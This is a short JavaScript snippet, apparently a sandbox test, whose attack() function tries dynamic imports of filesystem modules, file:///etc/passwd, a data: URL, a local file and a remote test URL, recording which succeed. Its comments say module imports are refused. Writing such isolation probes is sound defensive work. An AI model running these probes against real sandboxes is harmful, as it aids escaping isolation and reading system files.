// Tries: `import()` of modules, files, data and URLs
// Meets: nobody answers for modules: it is refused
async function attack() {
  const got = [];
  for (const name of ['fs', 'node:fs', 'file:///etc/passwd', 'data:text/javascript,export default 1', './prelude.js', 'https://a.test/x.js'])
    try { await import(name); got.push(name) } catch {}
  return got;
}
